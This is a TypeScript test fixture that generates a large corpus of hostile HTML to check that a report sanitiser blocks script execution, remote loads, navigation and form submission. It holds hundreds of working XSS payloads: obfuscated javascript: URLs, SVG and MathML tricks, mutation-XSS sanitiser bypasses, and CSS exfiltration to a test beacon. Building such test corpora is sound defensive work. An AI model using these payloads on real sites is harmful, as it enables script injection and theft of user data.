// A corpus of hostile report HTML for test/e2e/hostile-report.test.ts: every vector tries to run
// script, load something from outside, navigate, submit or open a window. Each one marks success
// in a way the test can see: a request to the beacon (`${beacon}?v=<id>`), an alert, a `data-xss`
// attribute on the document, a changed title.
//
// Written for this project, drawing on public lists: the OWASP XSS Filter Evasion Cheat Sheet
// (cheatsheetseries.owasp.org), PortSwigger's Cross-site scripting cheat sheet (event handlers by
// tag, auto-firing handlers), the HTML5 Security Cheatsheet (html5sec.org, Mario Heiderich),
// DOMPurify's test fixtures and the mutation-XSS write-ups of Michał Bentkowski ("Mutation XSS via
// namespace confusion", 2020) and Gareth Heyes (PortSwigger Research), and the CSS exfiltration
// techniques collected by PortSwigger and Cure53.

export interface XssVector {
  id: string;
  family: string;
  html: string;
}

// Event handlers a report could carry, with a tag that can fire each without help where possible.
const HANDLERS: Array<[string, string]> = [
  ['onload', '<svg {h}>'],
  ['onload', '<body {h}>'],
  ['onload', '<iframe srcdoc="x" {h}></iframe>'],
  ['onload', '<style {h}></style>'],
  ['onload', '<link rel="stylesheet" href="data:text/css," {h}>'],
  ['onload', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" {h}>'],
  ['onerror', '<img src="x:bad" {h}>'],
  ['onerror', '<img src {h}>'],
  ['onerror', '<video src="x:bad" {h}></video>'],
  ['onerror', '<audio src="x:bad" {h}></audio>'],
  ['onerror', '<video><source src="x:bad" {h}></video>'],
  ['onerror', '<input type="image" src="x:bad" {h}>'],
  ['onerror', '<object data="x:bad" {h}></object>'],
  ['onerror', '<script src="x:bad" {h}></script>'],
  ['onerror', '<link rel="stylesheet" href="x:bad" {h}>'],
  ['onfocus', '<input autofocus {h}>'],
  ['onfocus', '<textarea autofocus {h}></textarea>'],
  ['onfocus', '<select autofocus {h}></select>'],
  ['onfocus', '<button autofocus {h}>x</button>'],
  ['onfocus', '<a href="#" autofocus {h}>x</a>'],
  ['onfocus', '<div tabindex="1" autofocus {h}>x</div>'],
  ['onfocusin', '<input autofocus {h}>'],
  ['onblur', '<input autofocus {h}><input autofocus>'],
  ['onfocusout', '<input autofocus {h}><input autofocus>'],
  ['ontoggle', '<details open {h}>x</details>'],
  ['ontoggle', '<details {h} open><summary>x</summary></details>'],
  ['onbeforetoggle', '<div popover id="p{id}" {h}>x</div><button popovertarget="p{id}" autofocus>x</button>'],
  [
    'onanimationstart',
    '<style>@keyframes k{id}{from{color:red}}</style><div style="animation:k{id} 1s" {h}>x</div>',
  ],
  [
    'onanimationend',
    '<style>@keyframes k{id}{from{color:red}}</style><div style="animation:k{id} .01s" {h}>x</div>',
  ],
  [
    'onanimationiteration',
    '<style>@keyframes k{id}{from{color:red}}</style><div style="animation:k{id} .01s 2" {h}>x</div>',
  ],
  [
    'onwebkitanimationstart',
    '<style>@keyframes k{id}{from{color:red}}</style><div style="animation:k{id} 1s" {h}>x</div>',
  ],
  [
    'ontransitionrun',
    '<div style="transition:color 1s" {h} autofocus tabindex=1 onfocus="this.style.color=\'red\'">x</div>',
  ],
  ['ontransitionstart', '<div style="transition:color .01s" {h}>x</div>'],
  ['ontransitionend', '<div style="transition:outline .01s" tabindex=1 autofocus {h}>x</div>'],
  ['onbegin', '<svg><animate attributeName="x" dur="1s" {h}></animate></svg>'],
  ['onend', '<svg><animate attributeName="x" dur=".01s" {h}></animate></svg>'],
  ['onrepeat', '<svg><animate attributeName="x" dur=".01s" repeatCount="2" {h}></animate></svg>'],
  ['onpageshow', '<body {h}>'],
  ['onpagehide', '<body {h}>'],
  ['onhashchange', '<body {h}>'],
  ['onpopstate', '<body {h}>'],
  ['onresize', '<body {h}>'],
  ['onmessage', '<body {h}>'],
  ['onafterprint', '<body {h}>'],
  ['onbeforeprint', '<body {h}>'],
  ['onbeforeunload', '<body {h}>'],
  ['onunload', '<body {h}>'],
  ['onoffline', '<body {h}>'],
  ['ononline', '<body {h}>'],
  ['onstorage', '<body {h}>'],
  ['onscroll', '<div style="overflow:auto;height:20px" {h}><div style="height:200px"></div></div>'],
  ['onscrollend', '<div style="overflow:auto;height:20px" {h}><div style="height:200px"></div></div>'],
  ['onwheel', '<div {h}>x</div>'],
  ['onclick', '<div {h}>report text</div>'],
  ['ondblclick', '<div {h}>x</div>'],
  ['onauxclick', '<div {h}>x</div>'],
  ['oncontextmenu', '<div {h}>x</div>'],
  ['onmousedown', '<div {h}>x</div>'],
  ['onmouseup', '<div {h}>x</div>'],
  ['onmouseover', '<div style="position:fixed;inset:0" {h}>x</div>'],
  ['onmouseenter', '<div style="position:fixed;inset:0" {h}>x</div>'],
  ['onmousemove', '<div style="position:fixed;inset:0" {h}>x</div>'],
  ['onmouseout', '<div {h}>x</div>'],
  ['onmouseleave', '<div {h}>x</div>'],
  ['onpointerdown', '<div {h}>x</div>'],
  ['onpointerup', '<div {h}>x</div>'],
  ['onpointerover', '<div style="position:fixed;inset:0" {h}>x</div>'],
  ['onpointerenter', '<div style="position:fixed;inset:0" {h}>x</div>'],
  ['onpointermove', '<div style="position:fixed;inset:0" {h}>x</div>'],
  ['onpointerrawupdate', '<div style="position:fixed;inset:0" {h}>x</div>'],
  ['ongotpointercapture', '<div {h}>x</div>'],
  ['ontouchstart', '<div {h}>x</div>'],
  ['onkeydown', '<input autofocus {h}>'],
  ['onkeyup', '<input autofocus {h}>'],
  ['onkeypress', '<input autofocus {h}>'],
  ['oninput', '<input autofocus {h}>'],
  ['onbeforeinput', '<div contenteditable autofocus {h}>x</div>'],
  ['onchange', '<select autofocus {h}><option>1<option>2</select>'],
  ['oninvalid', '<form><input required {h}></form>'],
  ['onselect', '<input value="x" autofocus {h}>'],
  ['onselectstart', '<div {h}>x</div>'],
  ['onselectionchange', '<input value="x" autofocus {h}>'],
  ['onsubmit', '<form {h}><input type="submit" autofocus></form>'],
  ['onreset', '<form {h}><input type="reset" autofocus></form>'],
  ['onformdata', '<form {h}><input type="submit"></form>'],
  ['oncopy', '<div {h}>x</div>'],
  ['oncut', '<div contenteditable {h}>x</div>'],
  ['onpaste', '<div contenteditable {h}>x</div>'],
  ['ondrag', '<div draggable="true" {h}>x</div>'],
  ['ondragstart', '<div draggable="true" {h}>x</div>'],
  ['ondrop', '<div {h}>x</div>'],
  ['oncanplay', '<video src="data:video/mp4," {h}></video>'],
  ['onloadstart', '<video src="x:bad" {h}></video>'],
  ['onloadedmetadata', '<audio src="data:audio/wav," {h}></audio>'],
  ['onplay', '<video autoplay muted src="x:bad" {h}></video>'],
  ['onvolumechange', '<video src="x:bad" muted {h}></video>'],
  ['onsuspend', '<audio src="x:bad" {h}></audio>'],
  ['onemptied', '<audio src="x:bad" {h}></audio>'],
  ['onstalled', '<audio src="x:bad" {h}></audio>'],
  ['oncuechange', '<video><track default src="x:bad" {h}></video>'],
  ['onshow', '<menu type="context" {h}></menu>'],
  ['onclose', '<dialog open {h}><form method="dialog"><button autofocus>x</button></form></dialog>'],
  ['oncancel', '<dialog open {h}>x</dialog>'],
  ['onsecuritypolicyviolation', '<body {h}><img src="http://127.0.0.1:1/x">'],
  ['onsearch', '<input type="search" autofocus {h}>'],
  ['onslotchange', '<div><template shadowrootmode="open"><slot {h}></slot></template>x</div>'],
  ['onfullscreenchange', '<div {h}>x</div>'],
  ['onmozfullscreenchange', '<div {h}>x</div>'],
  ['onreadystatechange', '<script {h}></script>'],
  ['oncontentvisibilityautostatechange', '<div style="content-visibility:auto" {h}>x</div>'],
];

/** Ways to write "javascript:" that naive filters miss. */
const JS_SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java&#x09;script:',
  'java&#10;script:',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;',
  'javascript&colon;',
  '&#0000106avascript:',
  '\x01javascript:',
  'vbscript:',
];

/** Places where a URL is followed without script: javascript: in each. */
const URL_CONTEXTS = [
  '<a href="{u}" id="a{id}">link</a>',
  '<iframe src="{u}"></iframe>',
  '<form action="{u}"><input type="submit" autofocus></form>',
  '<form><button formaction="{u}" autofocus>x</button></form>',
  '<object data="{u}"></object>',
  '<embed src="{u}">',
  '<base href="{u}//"><a href="x">x</a>',
  '<area href="{u}">',
  '<svg><a xlink:href="{u}"><text y="20">x</text></a></svg>',
  '<math><maction actiontype="statusline" xlink:href="{u}">x</maction></math>',
  '<math href="{u}">x</math>',
  '<meta http-equiv="refresh" content="0;url={u}">',
  '<img src="{u}">',
  '<frameset><frame src="{u}"></frameset>',
  '<svg><animate attributeName="href" values="{u}"/><a id="x"><text y="20">x</text></a></svg>',
  '<svg><set attributeName="href" to="{u}"/></svg>',
  '<link rel="stylesheet" href="{u}">',
  '<input type="image" src="{u}">',
  '<video poster="{u}"></video>',
  '<isindex action="{u}" type="image">',
];

export function xssVectors(beacon: string): XssVector[] {
  const vectors: XssVector[] = [];
  const add = (family: string, template: string) => {
    const id = `v${vectors.length + 1}`;
    const hit = `${beacon}?v=${id}`;
    // The script a vector runs if it runs at all: every way of being seen.
    const js = `document.documentElement.setAttribute('data-xss','${id}');document.title='xss-${id}';alert('${id}');new Image().src='${hit}&by=script'`;
    const html = template
      .replaceAll('{js}', js)
      .replaceAll('{hit}', hit)
      .replaceAll('{id}', id)
      .replaceAll('{h}', '');
    vectors.push({ id, family, html });
    return { id, js, hit };
  };

  for (const [handler, tag] of HANDLERS) {
    add('event handler', tag.replace('{h}', `${handler}="{js}"`));
    // The same handler without quotes, and with an entity-encoded body.
    add('event handler', tag.replace('{h}', `${handler}=alert('{id}')//`));
    add(
      'event handler',
      tag.replace(
        '{h}',
        `${handler}="&#x61;&#x6C;&#x65;&#x72;&#x74;('{id}');new Image().src='{hit}&amp;by=entity'"`,
      ),
    );
  }

  for (const scheme of JS_SCHEMES) {
    for (const context of URL_CONTEXTS) add('javascript: URL', context.replaceAll('{u}', `${scheme}{js}`));
  }

  const svg = [
    '<svg><script>{js}</script></svg>',
    '<svg><script href="data:text/javascript,{js}"></script></svg>',
    '<svg><script xlink:href="data:,{js}"></script></svg>',
    '<svg onload="{js}"></svg>',
    '<svg><g onload="{js}"></g></svg>',
    '<svg><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>',
    '<svg><set onbegin="{js}" attributeName="x" to="1"/></svg>',
    '<svg><animatetransform onbegin="{js}" attributeName="transform"/></svg>',
    '<svg><discard onbegin="{js}"/></svg>',
    '<svg><foreignObject><img src="x:bad" onerror="{js}"></foreignObject></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>{js}</script>"></iframe></foreignObject></svg>',
    '<svg><image href="{hit}&amp;by=svg-image"/></svg>',
    '<svg><image xlink:href="{hit}&amp;by=svg-xlink-image"/></svg>',
    '<svg><use href="{hit}&amp;by=svg-use#x"/></svg>',
    '<svg><use href="data:image/svg+xml,&lt;svg id=%22x%22 xmlns=%22http://www.w3.org/2000/svg%22&gt;&lt;image href=%22x:bad%22 onerror=%22{js}%22/&gt;&lt;/svg&gt;#x"/></svg>',
    '<svg><feImage href="{hit}&amp;by=feimage"/></svg>',
    '<svg><style>@import url("{hit}&by=svg-style-import");</style></svg>',
    '<svg><style>svg{background:url("{hit}&by=svg-style-url")}</style></svg>',
    '<svg><a href="javascript:{js}"><rect width="100" height="100"/></a></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{js}</handler></svg>',
    '<svg><title><img src="x:bad" onerror="{js}"></title></svg>',
    '<svg><desc><img src="x:bad" onerror="{js}"></desc></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script type="text/ecmascript">{js}</script></svg>',
    '<svg><script>&#x61;lert(1);{js}</script></svg>',
    '<img src="data:image/svg+xml,&lt;svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{js}%22/&gt;">',
    '<object data="data:image/svg+xml,&lt;svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{js}%22/&gt;"></object>',
    '<embed src="data:image/svg+xml,&lt;svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{js}%22/&gt;">',
    '<svg><animate attributeName="onload" to="{js}"/></svg>',
    '<svg><set attributeName="onmouseover" to="{js}"/><rect width="1000" height="1000"/></svg>',
  ];
  for (const v of svg) add('SVG', v);

  const meta = [
    '<meta http-equiv="refresh" content="0;url={hit}&amp;by=refresh">',
    '<meta http-equiv="refresh" content="0; URL=\'{hit}&amp;by=refresh-quoted\'">',
    '<META HTTP-EQUIV="REFRESH" CONTENT="0;URL={hit}&amp;by=refresh-upper">',
    '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<meta http-equiv="refresh" content="0 url={hit}&amp;by=refresh-nosemicolon">',
    '<meta http-equiv="refresh" content="0;{hit}&amp;by=refresh-bare">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="{hit}&amp;by=csp-relax">',
    '<meta http-equiv="set-cookie" content="xss={id}">',
    '<meta name="referrer" content="unsafe-url"><img src="{hit}&amp;by=referrer">',
    '<meta charset="x-imap4-modified-utf7">&ADw-script&AD4-{js}&ADw-/script&AD4-',
    '<meta http-equiv="content-type" content="text/html; charset=utf-7">+ADw-script+AD4-{js}+ADw-/script+AD4-',
  ];
  for (const v of meta) add('meta refresh', v);

  const base = [
    '<base href="{hit}&amp;by=base/"><img src="x.png">',
    '<base href="{hit}&amp;by=base-link/"><link rel="stylesheet" href="x.css">',
    '<base href="javascript:{js}//"><a href="x">x</a>',
    '<base target="_top"><a href="{hit}&amp;by=base-target">x</a>',
    '<base href="//127.0.0.1:9/"><img src="x.png">',
    '<base href="data:text/html,<script>{js}</script>//"><iframe src="x"></iframe>',
  ];
  for (const v of base) add('base', v);

  const forms = [
    '<form action="{hit}&amp;by=form"><input type="submit" autofocus></form>',
    '<form action="{hit}&amp;by=form-post" method="post"><button autofocus>Submit</button></form>',
    '<form id="f{id}" action="{hit}&amp;by=form-owner"></form><button form="f{id}" autofocus>x</button>',
    '<form><button formaction="{hit}&amp;by=formaction" autofocus>x</button></form>',
    '<form><input type="image" src="{hit}&amp;by=input-image"></form>',
    '<form action="javascript:{js}"><input type="submit" value="Continue"></form>',
    '<form><input name="action" value="{hit}"><input type="submit"></form>',
    '<form action="{hit}&amp;by=form-target" target="_blank"><input type="submit" autofocus></form>',
    '<form action="{hit}&amp;by=form-top" target="_top"><input type="submit" autofocus></form>',
    '<isindex action="{hit}&amp;by=isindex" type="submit">',
    '<button popovertarget="x" formaction="javascript:{js}">x</button>',
    '<form method="dialog"><button formmethod="get" formaction="{hit}&amp;by=formmethod">x</button></form>',
  ];
  for (const v of forms) add('form', v);

  const css = [
    '<div style="background:url({hit}&amp;by=css-bg)">x</div>',
    '<div style="background-image:url(\'{hit}&amp;by=css-bg-quoted\')">x</div>',
    '<div style="background:image-set(\'{hit}&amp;by=image-set\' 1x)">x</div>',
    '<div style="list-style-image:url({hit}&amp;by=list-style)"><li>x</li></div>',
    '<div style="cursor:url({hit}&amp;by=cursor),auto">x</div>',
    '<div style="border-image:url({hit}&amp;by=border-image) 30">x</div>',
    '<div style="content:url({hit}&amp;by=content)"></div>',
    '<div style="mask-image:url({hit}&amp;by=mask)">x</div>',
    '<div style="shape-outside:url({hit}&amp;by=shape)">x</div>',
    '<div style="filter:url({hit}&amp;by=filter#x)">x</div>',
    '<div style="width:expression({js})">x</div>',
    '<div style="behavior:url({hit}&amp;by=behavior)">x</div>',
    '<div style="-moz-binding:url({hit}&amp;by=binding)">x</div>',
    '<div style="background:url(javascript:{js})">x</div>',
    '<div style="background:u\\rl({hit}&amp;by=css-escape)">x</div>',
    '<div style="background:url(&quot;{hit}&amp;by=css-entity&quot;)">x</div>',
    '<style>@import url("{hit}&by=import");</style>',
    '<style>@import "{hit}&by=import-string";</style>',
    '<style>@imp\\ort url("{hit}&by=import-escape");</style>',
    '<style>body{background:url("{hit}&by=style-bg")}</style>',
    '<style>@font-face{font-family:f{id};src:url("{hit}&by=font")}body{font-family:f{id}}</style>',
    '<style>input[value^="a"]{background:url("{hit}&by=attr-exfil")}</style><input value="abc">',
    '<style>*{cursor:url("{hit}&by=cursor-style"),auto}</style>',
    '<style>@namespace url("{hit}&by=namespace");</style>',
    '<style>:root{--u:url("{hit}&by=var")}div{background:var(--u)}</style><div>x</div>',
    '<link rel="stylesheet" href="{hit}&amp;by=link-css">',
    '<link rel="preload" as="image" href="{hit}&amp;by=preload">',
    '<link rel="prefetch" href="{hit}&amp;by=prefetch">',
    '<link rel="dns-prefetch" href="{hit}&amp;by=dns">',
    '<link rel="preconnect" href="{hit}&amp;by=preconnect">',
    '<link rel="icon" href="{hit}&amp;by=icon">',
    '<link rel="import" href="{hit}&amp;by=html-import">',
    '<link rel="modulepreload" href="{hit}&amp;by=modulepreload">',
    '<style>@media print{body{background:url("{hit}&by=print")}}</style>',
    '<style>div::after{content:url("{hit}&by=after")}</style><div>x</div>',
  ];
  for (const v of css) add('CSS', v);

  const remote = [
    '<img src="{hit}&amp;by=img">',
    '<img srcset="{hit}&amp;by=srcset 1x">',
    '<img src="data:," srcset="{hit}&amp;by=srcset-w 100w" sizes="100px">',
    '<picture><source srcset="{hit}&amp;by=picture"><img src="x:bad"></picture>',
    '<img lowsrc="{hit}&amp;by=lowsrc">',
    '<img dynsrc="{hit}&amp;by=dynsrc">',
    '<img src="{hit}&amp;by=img-lazy" loading="lazy">',
    '<img src="//127.0.0.1:9/by-protocol-relative">',
    '<image src="{hit}&amp;by=image-tag">',
    '<input type="image" src="{hit}&amp;by=input-image-bare">',
    '<video poster="{hit}&amp;by=poster"></video>',
    '<video src="{hit}&amp;by=video" autoplay muted></video>',
    '<audio src="{hit}&amp;by=audio" autoplay></audio>',
    '<video><source src="{hit}&amp;by=source"></video>',
    '<video><track default src="{hit}&amp;by=track"></video>',
    '<body background="{hit}&amp;by=body-bg">',
    '<table background="{hit}&amp;by=table-bg"><tr><td>x</td></tr></table>',
    '<td background="{hit}&amp;by=td-bg">x</td>',
    '<a ping="{hit}&amp;by=ping" href="#">x</a>',
    '<script src="{hit}&amp;by=script-src"></script>',
    '<script type="module" src="{hit}&amp;by=module"></script>',
    '<script>import("{hit}&by=dynamic-import")</script>',
    '<bgsound src="{hit}&amp;by=bgsound">',
    '<object data="{hit}&amp;by=object"></object>',
    '<embed src="{hit}&amp;by=embed">',
    '<applet code="x" codebase="{hit}&amp;by=applet"></applet>',
    '<portal src="{hit}&amp;by=portal"></portal>',
    '<img src="x:bad" onerror="this.src=\'{hit}&amp;by=onerror-src\'">',
    '<div style="background:url(\'//127.0.0.1:9/css-protocol-relative\')">x</div>',
    '<img src="http://localhost:9/other-host">',
  ];
  for (const v of remote) add('remote resource', v);

  const frames = [
    '<iframe src="{hit}&amp;by=iframe"></iframe>',
    '<iframe srcdoc="&lt;script&gt;{js}&lt;/script&gt;"></iframe>',
    '<iframe srcdoc="<img src=x:bad onerror=&quot;{js}&quot;>"></iframe>',
    '<iframe src="data:text/html,<script>{js}</script>"></iframe>',
    '<iframe src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoMSk8L3NjcmlwdD4="></iframe>',
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>{js};top.location=\'{hit}\'</script>"></iframe>',
    '<iframe name="x{id}" src="about:blank"></iframe><a href="{hit}&amp;by=named-target" target="x{id}">x</a>',
    '<frameset onload="{js}"><frame src="{hit}&amp;by=frame"></frameset>',
    '<object data="data:text/html,<script>{js}</script>"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<object type="text/x-scriptlet" data="{hit}&amp;by=scriptlet"></object>',
    '<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name="DataURL" value="{hit}"></object>',
    '<object><param name="movie" value="{hit}&amp;by=param"><embed src="{hit}&amp;by=param-embed"></object>',
    '<embed src="javascript:{js}">',
    '<embed src="data:text/html,<script>{js}</script>">',
    '<embed type="image/svg+xml" src="{hit}&amp;by=embed-svg">',
    '<iframe src="{hit}&amp;by=iframe-lazy" loading="lazy"></iframe>',
    '<fencedframe src="{hit}&amp;by=fencedframe"></fencedframe>',
    '<iframe srcdoc="<meta http-equiv=refresh content=0;url={hit}&amp;by=nested-refresh>"></iframe>',
  ];
  for (const v of frames) add('frame, object, embed', v);

  const mxss = [
    // Namespace confusion and re-parsing tricks that have bypassed sanitisers.
    '<math><mtext><table><mglyph><style><img src=x:bad onerror="{js}">',
    '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img src=x:bad onerror=\'{js}\'>">',
    '<svg></p><style><a id="</style><img src=x:bad onerror=\'{js}\'>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x:bad onerror="{js}">',
    '<noscript><p title="</noscript><img src=x:bad onerror=\'{js}\'>">',
    '<xmp><p title="</xmp><img src=x:bad onerror=\'{js}\'>">',
    '<noembed><p title="</noembed><img src=x:bad onerror=\'{js}\'>">',
    '<noframes><p title="</noframes><img src=x:bad onerror=\'{js}\'>">',
    '<iframe><p title="</iframe><img src=x:bad onerror=\'{js}\'>">',
    '<title><p title="</title><img src=x:bad onerror=\'{js}\'>">',
    '<textarea><p title="</textarea><img src=x:bad onerror=\'{js}\'>">',
    '<style><p title="</style><img src=x:bad onerror=\'{js}\'>">',
    '<!--><img src=x:bad onerror="{js}">-->',
    '<!-- --!><img src=x:bad onerror="{js}">-->',
    '<![CDATA[><img src=x:bad onerror="{js}">]]>',
    '<svg><![CDATA[><img src=x:bad onerror="{js}">]]></svg>',
    '<?xml-stylesheet href="{hit}&by=pi"?><img src=x:bad onerror="{js}">',
    '<a href="x" title="&lt;img src=x:bad onerror=\'{js}\'&gt;">x</a>',
    '<template><img src=x:bad onerror="{js}"></template>',
    '<div><template shadowrootmode="open"><img src=x:bad onerror="{js}"></template></div>',
    '<div><template shadowrootmode="closed"><style>@import "{hit}&by=dsd";</style></template></div>',
    '<select><template><img src=x:bad onerror="{js}"></template></select>',
    '<table><td><svg><foreignobject><p><style><img src=x:bad onerror="{js}">',
    '<svg><style><img src=x:bad onerror="{js}"></style></svg>',
    '<math><style><img src=x:bad onerror="{js}"></style></math>',
    '<math><mi><style><img src=x:bad onerror="{js}"></style></mi></math>',
    '<svg><desc><svg><style><img src=x:bad onerror="{js}">',
    '<scr<script>ipt>{js}</scr</script>ipt>',
    '<SCRIPT>{js}</SCRIPT>',
    '<script\x00>{js}</script>',
    '<script/xss>{js}</script>',
    '<script>/*</script><img src=x:bad onerror="{js}">*/</script>',
    '<<script>script>{js}<</script>/script>',
    '<img src=x:bad onerror\x0b="{js}">',
    '<img/src=x:bad/onerror="{js}">',
    '<img src=x:bad onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;1&#x29;>',
    '<img src="x:bad"\nonerror="{js}">',
    '<img """><script>{js}</script>">',
    '<a href="&#14;javascript:{js}">x</a>',
    '<div id="x{id}"></div><div style="x:expr/**/ession({js})">x</div>',
    '<plaintext><img src=x:bad onerror="{js}">',
    '<listing><img src=x:bad onerror="{js}"></listing>',
    '<keygen autofocus onfocus="{js}">',
    '<marquee onstart="{js}">x</marquee>',
    '<marquee behavior="alternate" onbounce="{js}">x</marquee>',
    '<marquee loop="1" width="0" onfinish="{js}">x</marquee>',
    '<x onclick="{js}" contenteditable>custom element</x>',
    '<custom-el onfocus="{js}" autofocus tabindex="1">x</custom-el>',
    '<div popover="auto" id="p{id}" onbeforetoggle="{js}">x</div><button popovertarget="p{id}">x</button>',
    '<dialog open onclose="{js}" closedby="any">x</dialog>',
    '<input type="hidden" oncontentvisibilityautostatechange="{js}" style="content-visibility:auto">',
    '<a id="x{id}" href="#x{id}" onfocus="{js}" autofocus>x</a>',
    '<img src="x:bad" onerror="eval(atob(\'YWxlcnQoMSk=\'));{js}">',
    '<img src="x:bad" onerror="window[\'al\'+\'ert\'](1);{js}">',
    '<img src="x:bad" onerror="setTimeout(\'{js}\')">',
    '<img src="x:bad" onerror="top.postMessage(\'xss-{id}\',\'*\');{js}">',
    '<img src="x:bad" onerror="parent.chrome&&parent.chrome.runtime&&parent.chrome.runtime.sendMessage({type:\'buyReport\'});{js}">',
    '<img src="x:bad" onerror="window.open(\'{hit}&amp;by=window-open\');{js}">',
    '<img src="x:bad" onerror="top.location=\'{hit}&amp;by=top-location\';{js}">',
    '<img src="x:bad" onerror="document.cookie=\'x=1\';localStorage.x=1;{js}">',
  ];
  for (const v of mxss) add('mutation XSS and parser tricks', v);

  // What a review of the hand-written sanitiser found getting through (issue 13), kept as regressions.
  for (const template of [
    '<map name="m{id}"><area shape="rect" coords="0,0,100,100" href="options.html" target="_self"></map><img usemap="#m{id}" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    '<svg><a xlink:href="popup.html" target="_self"><text y="20">x</text></a></svg>',
    '<svg><a><animate attributeName="href" values="javascript:{js}"/><text y="20">x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{js}">',
    '<link rel="stylesheet" href="{hit}&amp;by=review-link"><style>@import "{hit}&by=review-import";</style>',
    '<div style="background:url({hit}&by=review-css-url)">x</div>',
    '<img srcset="{hit}&amp;by=review-srcset 1x">',
    '<picture><source srcset="{hit}&amp;by=review-source"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></picture>',
    '<input type="image" src="{hit}&amp;by=review-input-image">',
    '<svg><image xlink:href="{hit}&amp;by=review-xlink"/></svg>',
    '<style>@font-face{font-family:x{id};src:url({hit}&by=review-font)}p{font-family:x{id}}</style><p>x</p>',
    '<div style="background-image:image-set(&quot;{hit}&by=review-image-set&quot; 1x)">x</div>',
    '<style>p{background:u\\72l({hit}&by=review-escaped-url)}</style><p>x</p>',
  ])
    add('review findings', template);

  // Stylesheets the sanitiser now keeps rather than drops whole (escapes are read, not refused), and
  // what presentation attributes and SVG sprites may carry now that they stay (issue 34): the
  // exfiltration shapes of PortSwigger's and Cure53's CSS write-ups (attribute selectors, per-letter
  // unicode-range fonts), @import chains, every image function, url( spelled with escapes.
  for (const template of [
    '<style>input[value^="a"]{background:url("{hit}&by=attr-a")}input[value^="b"]{background:u\\72l({hit}&by=attr-b)}</style><input value="abc">',
    '<style>@font-face{font-family:u{id};src:url({hit}&by=range-a);unicode-range:U+0061}@font-face{font-family:u{id};src:url("{hit}&by=range-b") format("woff");unicode-range:U+0062}p{font-family:u{id}}</style><p>ab</p>',
    '<style>@import url("data:text/css,@import url(%22{hit}&by=import-chain%22);");</style>',
    '<style>@\\69mport "{hit}&by=import-escaped";</style>',
    '<style>@import "{hit}&by=import-layer" layer(x);p{color:red}</style><p>x</p>',
    '<style>p{background:-webkit-image-set(url("{hit}&by=webkit-image-set") 1x)}</style><p>x</p>',
    '<style>p{background:image-set("{hit}&by=image-set-string" type("image/png"))}</style><p>x</p>',
    '<style>p{background:cross-fade(url("{hit}&by=cross-fade"),url(x),50%)}</style><p>x</p>',
    '<style>p{background:src("{hit}&by=src-function")}</style><p>x</p>',
    '<style>p{background:\\75\\72\\6c("{hit}&by=hex-escapes")}</style><p>x</p>',
    '<style>p{background:URL(  {hit}&by=upper-case  )}</style><p>x</p>',
    '<style>.icon:before{content:"\\e900"}p{background:url(\'{hit}&by=beside-escapes\')}</style><p class="icon">x</p>',
    '<style>p{--x:u\\72l({hit}&by=escaped-var)}p{background:var(--x)}</style><p>x</p>',
    '<p style="background:u\\72l({hit}&amp;by=attr-escape)">x</p>',
    '<svg width="40" height="40"><rect width="40" height="40" fill="url({hit}&amp;by=fill#g)"/></svg>',
    '<svg width="40" height="40"><rect width="40" height="40" stroke="url(\'{hit}&amp;by=stroke#g\')"/></svg>',
    '<svg width="40" height="40"><rect width="40" height="40" filter="url({hit}&amp;by=filter-attr#f)"/></svg>',
    '<svg width="40" height="40"><rect width="40" height="40" mask="url({hit}&amp;by=mask-attr#m)"/></svg>',
    '<svg width="40" height="40"><rect width="40" height="40" clip-path="url({hit}&amp;by=clip-attr#c)"/></svg>',
    '<svg width="40" height="40"><path d="M0 0L40 40" marker-end="url({hit}&amp;by=marker#m)"/></svg>',
    '<svg width="40" height="40" cursor="url({hit}&amp;by=cursor-attr),auto"><rect width="40" height="40"/></svg>',
    '<svg width="40" height="40"><use href="{hit}&amp;by=use-remote#i"/><use xlink:href="//127.0.0.1:9/by-use-relative#i"/></svg>',
    '<svg width="40" height="40"><defs><symbol id="s{id}" viewBox="0 0 10 10"><image href="{hit}&amp;by=symbol-image"/></symbol></defs><use href="#s{id}"/></svg>',
    '<svg width="40" height="40"><defs><symbol id="t{id}"><a href="javascript:{js}"><rect width="10" height="10"/></a></symbol></defs><use href="#t{id}"/></svg>',
    '<svg width="40" height="40"><use href="#u{id}"/><g id="u{id}"><set attributeName="href" to="{hit}&amp;by=use-set"/></g></svg>',
  ])
    add('stylesheets and presentation', template);
  return vectors;
}
